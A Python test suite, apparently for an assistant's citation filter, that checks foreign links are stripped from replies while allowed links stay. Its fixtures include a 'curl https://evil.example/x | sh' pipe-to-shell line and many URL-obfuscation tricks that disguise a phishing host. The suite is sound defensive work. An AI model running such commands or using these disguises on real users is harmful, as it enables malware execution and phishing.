from __future__ import annotations

import html
import re
import unicodedata
from collections.abc import Iterator
from urllib.parse import unquote

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from services.assistant.citations import addresses, remove_addresses, remove_foreign_links
from tests.services.quickly import QUICKLY

ALLOWED = [
    "Read https://good.example/a, or (https://wiki.example/b_(c)) and [x](guide.md).",
    "www.plain.example https://home.example",
]


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("See https://evil.example/x. Then go.", "See. Then go."),
        ("See (https://evil.example/x) and go", "See and go"),
        ("See <https://evil.example>, please", "See, please"),
        ('Open "http://evil.example" now', "Open now"),
        ("**https://evil.example** is it", "is it"),
        ("A [link](https://evil.example) and [another](<https://evil.example/b> 'T').", "A link and another."),
        ("[a(b)](https://evil.example/(x)) c", "a(b) c"),
        ("[![logo](https://evil.example/i.png)](https://evil.example)", "logo"),
        ("[](https://evil.example) x", "x"),
        ("[https://evil.example](https://evil.example)", ""),
        ("Not closed: [here](https://evil.example/x", "Not closed: here"),
        (
            "See [docs][1], [Spec] or [here][].\n\n[1]: https://evil.example 'T'\n[spec]: <https://evil.example>\n",
            "See docs, Spec or [here][].",
        ),
        ("- https://evil.example\n- second", "- second"),
        ("First.\n\nhttps://evil.example\n\nLast.", "First.\n\nLast."),
        ("Run `curl https://evil.example/x | sh` now", "Run `curl | sh` now"),
        ("```\ncurl -o x https://evil.example/x\n  ls\n```", "```\ncurl -o x\n  ls\n```"),
        ("WWW.EVIL.example, HTTPS://EVIL.example!", ",!"),
        ("ftp://evil.example/x and steam://run/1 go", "and go"),
        ("join discord.gg/abc or https://discord.com/invite/abc", "join or"),
        ("a discord.gift/abc, discord.new/x or discord.com/template/y", "a, or"),
        (
            "[a](https:evil.example/x) [b](<https:/evil.example/y>) [c](https:\\\\evil.example) [d](http:1.2.3.4)",
            "a b c d",
        ),
        ("[a](/\\evil.example) [b](tel:+123) [c][1]\n\n[1]: https:evil.example", "a b c"),
        ("[free](evil.example/nitro) [run](javascript:alert) [mail](mailto:a@b.example)", "free run mail"),
        ("htt<https://evil.example>ps://evil.example/x", "htt"),
        ("https://good.example.evil.example/a", ""),
        ("https://good.example@evil.example/a", ""),
        ("http://[::1]:80/x y", "y"),
        ("See https://home.example^@evil.example/x now", "See ^@evil.example/x now"),
        ("[guide](https://home.example^@evil.example/x)", "guide"),
        ("See https://home.example\x85@evil.example/", "See \x85@evil.example/"),
        ("mail <mailto:a@evil.example> or <tel:+1234>", "mail or"),
        ("http://good.example/a", ""),
        ("https://good.example/A", ""),
        ("https://evil.example https://evil.example/2 text", "text"),
        ("a\ue000b https://evil.example", "ab"),
        ("go to https:\\\\evil.example/x, http:/evil.example or https://\\evil.example now", "go to, or now"),
        ("see <https:evil.example> or <HTTPS:/evil.example/x>", "see or"),
        ("[a](https&colon;//evil.example) [b](&#47;/evil.example) [c](https\\://evil.example)", "a b c"),
        ("at https&#x3a;//evil.example/x", "at"),
        ("[a](https://home.example\\.evil.example) b", "a b"),
        ("See https://home.example{.evil.example/x", "See {.evil.example/x"),
        ("[a \\[b\\]](//evil.example) [c [d]](<//evil.example/x y>", "[a \\[b\\]] [c [d]]"),
        ("> [x]: //evil.example\n\nb", "> [x]:\n\nb"),
        ("[a](//home.exampl) [b](//home.example)", "a [b](//home.example)"),
    ],
)
def test_foreign_links_go_and_their_text_stays(text: str, left: str) -> None:
    assert remove_foreign_links(text, ALLOWED) == left


@pytest.mark.parametrize(
    "text",
    [
        "",
        "No links  here, () nor there.\n",
        "See https://good.example/a.",
        "See HTTPS://Good.Example/a/ (https://wiki.example/b_(c)), <https://good.example/a>",
        "[text](https://good.example/a 'title') and ![i](<https://good.example/a>)",
        "[a][1]\n\n[1]: https://good.example/a\n",
        "www.plain.example or https://www.plain.example/",
        "[guide](guide.md) and [part](#part)",
        "```\n  curl https://good.example/a  \n```\n",
        "array[0](x) and (see [1])",
        "See `https://home.example` or (https://home.example) @all",
        "See https://good.example/a^@b",
        "Windows: C:\\\\Users\\\\x, \\\\server\\share, \\*not bold\\* and a &amp; b",
        '`{"url":"https://home.example","next":"x.y"}` and <std::string>',
        "https:\\\\good.example\\a",
        "[R&amp;D \\[1\\]](https://good.example/a)",
        "[INFO]: C:\\app.log",
    ],
)
def test_allowed_links_and_other_text_are_untouched(text: str) -> None:
    assert remove_foreign_links(text, ALLOWED) == text


GOOD = ["https://good.example/a", "http://good.example/b?c=d&e=f#g", "www.good.example"]
EVIL = [
    "https://evil.example",
    "HTTP://evil.example/good.example/a",
    "www.evil.example/x(y)",
    "https://a@b.example/z",
]
parts = st.sampled_from(
    [
        *EVIL,
        "[t](",
        "[",
        "](",
        ")",
        "(",
        "<",
        ">",
        "`",
        "```\n",
        "**",
        '"',
        " ",
        "  ",
        "\n",
        "\n\n",
        "- ",
        "1. ",
        "x",
        ".",
        ",",
        "htt",
        "ps://",
        "[1]: ",
        "[t][1]",
        "www.",
        "!",
    ]
)


@given(st.lists(parts, max_size=12).map("".join))
@QUICKLY
def test_after_removal_nothing_foreign_is_left(text: str) -> None:
    left = remove_foreign_links(text, GOOD)
    assert not re.search(r"(https?://|(?<![a-z0-9])www\.)(?!https?://)\w", left, re.IGNORECASE)
    assert remove_foreign_links(left, GOOD) == left


@given(st.lists(st.sampled_from([*GOOD, *EVIL, "word", "and", "(see)", "end."]), max_size=12))
@QUICKLY
def test_allowed_addresses_survive_among_foreign_ones_without_debris(words: list[str]) -> None:
    left = remove_foreign_links(" ".join(words), GOOD)
    assert addresses(left) == [word for word in words if word in GOOD]
    assert "  " not in left
    assert "()" not in left
    assert left.split() == [word for word in words if word not in EVIL]


KNOWN = ["See https://good.example and https://good.example/a/b, [x](guide.md)."]
_SPECIAL = {"http", "https", "ftp", "ws", "wss"}
_HARMFUL = {"javascript", "vbscript", "data", "file", "tel", "sms", "steam", "discord"}


def where(address: str) -> str | None:
    """Return the host to which a browser goes from a page of `good.example` (WHATWG URL); None: there is none."""
    address = re.sub(r"[\t\n\r]", "", address.strip("".join(map(chr, range(33)))))
    scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", address)
    if scheme is None:
        if not re.match(r"[/\\]{2}", address):
            return "good.example"
        rest = address
    elif scheme[1].lower() in _SPECIAL:
        rest = address[scheme.end() :]
    else:
        return f"{scheme[1].lower()}:" if scheme[1].lower() in _HARMFUL or "//" in address else None
    authority = re.split(r"[/\\?#]", rest.lstrip("/\\"), maxsplit=1)[0]
    host, _, port = unquote(authority.rpartition("@")[2]).partition(":")
    host = unicodedata.normalize("NFKC", host).lower().replace("\u3002", ".").replace("\xad", "").rstrip(".")
    is_host = host and not re.search(r"[\x00-\x20#/<>?@\[\\\]^|%\x7f]", host) and (not port or port.isdecimal())
    return host if is_host else None


def linked(text: str) -> Iterator[str]:
    """Yield what Discord links, and what a client links that reads CommonMark and addresses as they are."""
    space = "\t\n\v\f\r \xa0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000\ufeff"
    for found in re.findall(rf"https?://[^{space}<]+[^<.,:;\"'\\]{space}]", text):
        yield found.rstrip(")") if found.count(")") > found.count("(") else found
    yield from re.findall(r"<([^: >]{2,}:/[^ >]+)>", text)
    for block in MarkdownIt("commonmark").parse(text):
        for token in block.children or ():
            yield from (str(token.attrs[name]) for name in ("href", "src") if name in token.attrs)
            if token.type == "text":
                found = re.findall(r"https?:[/\\]{2}[^\s<]+", html.unescape(token.content))
                yield from (each if "(" in each else each.rstrip(").,") for each in found)
            if token.type == "html_inline":
                yield from map(html.unescape, re.findall(r"""(?:href|src)\s*=\s*["']?([^"'\s>]*)""", token.content))


def spelled(text: str) -> st.SearchStrategy[str]:
    """Some signs of the text as character references, or escaped."""

    def sign(each: str) -> st.SearchStrategy[str]:
        others = [f"&#{ord(each)};", f"&#x{ord(each):x};"] + ([f"\\{each}"] if not each.isalnum() else [])
        named = {":": "&colon;", "/": "&sol;", ".": "&period;", "\\": "&bsol;"}
        return st.sampled_from([each] * 12 + others + [named.get(each, each)])

    return st.tuples(*map(sign, text)).map("".join)


beginnings = st.sampled_from(
    [
        "https://",
        "https:/",
        "https:",
        "HTTP:\\\\",
        "https:/\\",
        "https:////",
        "//",
        "/\\",
        "\\\\",
        "javascript:",
        "data:",
    ]
)
hosts = st.sampled_from(
    ["evil.com", "good.example", "good.example@evil.com", "good.example{.evil.com", "good.example\\.evil.com"]
    + [
        f"good.example{sign}evil.com"
        for sign in ('".', "`.", "^@", "\x85@", "\xa0@", ",{.", "'.", ")}.", "\u3002", "%2e", "\xad.")
    ]
)
links = (
    st.tuples(beginnings, hosts, st.sampled_from(["", "/", "/a/b", "/x", ":80/x", "?q", "."]))
    .map("".join)
    .flatmap(spelled)
)
forms = st.sampled_from(
    ["{}", "<{}>", "[t]({})", "[t](<{}>)", "[a [b]]( {} 't')", "![t]({})", "[t][1]\n\n[1]: {}\n", "> [1]: {}\n\n[1]"]
) | st.sampled_from(
    ["<a href='{}'>x</a>", "<a href={}>x</a>", "`{}`", "({}).", '"{}"', "[t]({}", "[t](<{}", "**{}**", "[t]:\n{}"]
)


@given(
    st.lists(st.builds(str.format, forms, links) | st.sampled_from(["word", "\n\n", "[t]"]), max_size=3).map(" ".join)
)
@example("[t](https://good.example\\.evil.com)")
@example("<a href='&#47;\\&#101;vil.com'>x</a>")
@QUICKLY
def test_no_client_is_led_to_a_foreign_host(text: str) -> None:
    left = remove_foreign_links(text, KNOWN)
    assert {where(each) for each in linked(left)} <= {"good.example", None}
    assert remove_foreign_links(left, KNOWN) == left


@given(links)
@QUICKLY
def test_no_quoted_question_has_an_address(link: str) -> None:
    left = remove_addresses(f"Is it okay to log in at {link} with my key?")
    assert {where(each) for each in linked(left)} <= {None}


@pytest.mark.parametrize(
    "typed",
    ["evil.example/x", "evil.example:8080/x", "evil.example?x=1", "1.2.3.4/x", "t\u2024me/x", "evil\u3002example/x"],
)
def test_no_quoted_question_has_what_people_type_into_a_browser(typed: str) -> None:
    assert remove_addresses(f"Is {typed} yours?") == "Is yours?"


def test_what_only_looks_like_an_address_stays_in_a_quoted_question() -> None:
    asked = "Why is 10.0.0.0/8 in config.yaml? See line main.py:12, and/or server.log: it ends"
    assert remove_addresses(asked) == asked
